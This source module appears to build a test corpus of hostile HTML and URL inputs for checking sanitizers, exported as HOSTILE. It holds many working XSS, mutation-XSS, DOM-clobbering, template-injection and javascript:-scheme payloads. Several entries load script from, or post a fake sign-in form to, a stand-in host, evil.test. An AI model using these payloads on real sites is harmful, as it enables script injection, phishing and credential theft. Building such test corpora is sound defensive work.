/** Sets `window.pwned`, or reads it, wherever one of the texts below becomes code. */
const CODE = 'window.pwned=1';

const EVENTS = (
  'abort animationend animationstart auxclick beforeinput beforetoggle blur canplay change click close contentvisibilityautostatechange ' +
  'contextmenu copy cuechange dblclick drag error focus focusin formdata hashchange input keydown load loadedmetadata ' +
  'message mouseover pageshow paste pointerdown pointerrawupdate popstate progress resize scroll scrollend ' +
  'securitypolicyviolation select toggle touchstart transitionend unhandledrejection wheel'
).split(' ');
const onEvents = EVENTS.flatMap((event) => [
  `<img src=x on${event}=${CODE}>`,
  `<p/on${event.toUpperCase()}="${CODE}" tabindex=1 autofocus>x</p>`,
  `" autofocus on${event}="${CODE}`,
]);

const elements = [
  ...[`<script>${CODE}</script>`, `<ScRiPt src=//evil.test/x></sCrIpT>`, `<script/x>${CODE}</script >`],
  ...[
    `<<script>${CODE}//<</script>`,
    `<script>${CODE}`,
    `<script src=data:text/javascript,${CODE}></script>`,
  ],
  ...[`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src=javascript:parent.pwned=1>`],
  ...[`<object data="javascript:${CODE}"></object>`, `<embed src="data:image/svg+xml,<svg onload=${CODE}>">`],
  ...[`<svg onload=${CODE}>`, `<svg><script>${CODE}</script></svg>`, `<svg><set onbegin=${CODE}>`],
  ...[`<svg><animate onbegin=${CODE} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg/>">`],
  ...[
    `<video><source onerror=${CODE}></video>`,
    `<audio src=x onerror=${CODE}>`,
    `<details open ontoggle=${CODE}>`,
  ],
  ...[
    `<body onload=${CODE}>`,
    `<frameset onload=${CODE}>`,
    `<marquee onstart=${CODE}>`,
    `<isindex type=image src=1 onerror=${CODE}>`,
  ],
  ...[`<base href="https://evil.test/">`, `<meta http-equiv="refresh" content="0;url=https://evil.test/">`],
  ...[
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<link rel=stylesheet href=//evil.test/x>`,
  ],
  ...[`<style>@import "//evil.test/x"</style>`, `<p style="background:url(javascript:${CODE})">x`],
  ...[
    `<form action="https://evil.test/"><input name=email><button>Sign in</button></form>`,
    `<button formaction=javascript:${CODE}>x`,
  ],
  ...[
    `<input type=image src=x onerror=${CODE}>`,
    `<keygen autofocus onfocus=${CODE}>`,
    `<portal src=//evil.test>`,
  ],
  ...[
    `<template shadowrootmode=open><script>${CODE}</script></template>`,
    `<slot onslotchange=${CODE}><b>x</b></slot>`,
  ],
  ...[
    `<!--><img src=x onerror=${CODE}>-->`,
    `<!--[if IE]><script>${CODE}</script><![endif]-->`,
    `<?xml-stylesheet href="javascript:${CODE}"?>`,
  ],
  ...[`<![CDATA[<script>${CODE}</script>]]>`, `<!DOCTYPE x [<!ENTITY a "<script>${CODE}</script>">]>&a;`],
  ...[`<x contenteditable onbeforeinput=${CODE}>`, `<p title="\u2028"><!--><img src=x onerror=${CODE}>-->`],
];

// Texts that are parsed differently the second time.
const mutating = [
  '<svg><style><img src=x onerror=CODE></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=CODE>">',
  '<svg><p><style><g title="</style><img src=x onerror=CODE>">',
  '<svg><![CDATA[<img src=x onerror=CODE>]]></svg>',
  '<svg><desc><style><!--</style><img title="--><img src onerror=CODE>">',
  '<svg><foreignObject><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=CODE src=1>">',
  '<math><mi><table><mglyph><style><math><img src=x onerror=CODE></style>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CODE></style></annotation-xml>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=CODE src>">',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<noembed><p title="</noembed><img src=x onerror=CODE>">',
  '<noframes><p title="</noframes><img src=x onerror=CODE>">',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<textarea><p title="</textarea><img src=x onerror=CODE>">',
  '<title><p title="</title><img src=x onerror=CODE>">',
  '<iframe><p title="</iframe><img src=x onerror=CODE>">',
  '<listing>&lt;img src=x onerror=CODE&gt;</listing>',
  '<plaintext><script>CODE</script>',
  '<select><template><style><!--</style></select><img src=x onerror=CODE>-->',
  '<select><iframe><script>CODE</script>',
  '<table><td><table><a href="//evil.test"><table><img src=x onerror=CODE>',
  '<p>&lt;/p&gt;&lt;img src=x onerror=CODE&gt;',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;',
  '&#60;script&#62;CODE&#60;/script&#62;',
  '<p>&#x3c;img src=x onerror=CODE&#x3e;</p>',
  '<a title="<!--"></a><img src=x onerror=CODE>-->',
  '<b <script>CODE</script>0',
  '<a<b>c onmouseover=CODE>',
  '<p\u00a0onclick=CODE>x',
  '<img\u000csrc=x\u000conerror=CODE>',
  `${'<i>'.repeat(60)}<img src=x onerror=CODE>`,
  `${'<svg>'.repeat(20)}<style><img src=x onerror=CODE>`,
].map((text) => text.replaceAll('CODE', CODE));

// What ends the text of an element, an attribute, or a string of the script or data around it.
const ends = [
  ...[
    '</script>',
    '</script >',
    '</SCRIPT\t>',
    '<!--<script>',
    '--></script>',
    '</title>',
    '</style>',
    '</textarea>',
  ],
  ...[
    '</head><body>',
    '</p></div></main></body></html>',
    '">',
    "'>",
    '`>',
    ']]>',
    '*/',
    '-->',
    '\\',
    '\\"',
    '\\u0022>',
  ],
  ...[
    '\u2028',
    '\u2029',
    '\r\n\r\n',
    '"}]}',
    '"]);',
    '\\u003c/script>',
    '%22%3E',
    '&quot;>',
    '&#x22;>',
    '\u202e',
    '\ufeff',
  ],
].flatMap((end) => [
  `${end}<script>${CODE}</script>`,
  `${end}<img src=x onerror=${CODE}>`,
  `${end};${CODE};//`,
]);

const addresses = [
  ...[
    `javascript:${CODE}`,
    `JaVaScRiPt:${CODE}`,
    `java\tscript:${CODE}`,
    `java\nscript:${CODE}`,
    `\u0001javascript:${CODE}`,
  ],
  ...[
    ` javascript:${CODE}`,
    `jav&#x09;ascript:${CODE}`,
    `javascript&colon;${CODE}`,
    `&#106;avascript:${CODE}`,
    `javascript://%0a${CODE}`,
  ],
  ...[
    `data:text/html,<script>${CODE}</script>`,
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  ],
  ...[
    `vbscript:${CODE}`,
    'livescript:x',
    'blob:https://ca.test/x',
    'filesystem:x',
    'file:///etc/passwd',
    'intent:x#Intent;end',
  ],
  ...[
    '//evil.test/x',
    '\\\\evil.test\\x',
    'https://user:word@evil.test/',
    'https:evil.test',
    'https://[',
    'view-source:x',
  ],
].flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  `<form action="${address}"><input type=submit>`,
  address,
]);

/** Names of parts of a page that an element's `id` or `name` would stand in for. */
export const CLOBBERED = (
  'location cookie body head documentElement currentScript defaultView domain forms scripts images links all ' +
  'getElementById querySelector createElement addEventListener attributes children firstChild parentNode nodeName ' +
  'ownerDocument baseURI self top parent opener pwned history navigator fetch __reactRouterContext __proto__ constructor'
).split(' ');
const clobbering = CLOBBERED.flatMap((name) => [
  `<b id=${name}>x</b>`,
  `<a id=${name} name=${name} href="https://evil.test/">x</a><a id=${name}>y</a>`,
  `<form name=${name}><input name=${name} id=${name}></form>`,
]);

const templates = [
  ...[
    '{{constructor.constructor("window.pwned=1")()}}',
    `\${${CODE}}`,
    '<%= window.pwned=1 %>',
    '#{window.pwned=1}',
  ],
  ...[
    '__proto__',
    'constructor',
    '[object Object]',
    'null',
    'undefined',
    'NaN',
    '-->',
    '<',
    '&',
    '"',
    "'",
    '$&',
    '$`',
    '$1',
  ],
  ...['=HYPERLINK("https://evil.test")', '\u202egnp.exe', 'a\u0001b', '\ud83d\ude00<b>', 'Å̈̃'.repeat(40)],
];

/** Texts that run, lead astray or rename something, where they are not shown as text or cleaned. */
export const HOSTILE: readonly string[] = [
  ...new Set([...elements, ...mutating, ...ends, ...addresses, ...clobbering, ...templates, ...onEvents]),
];
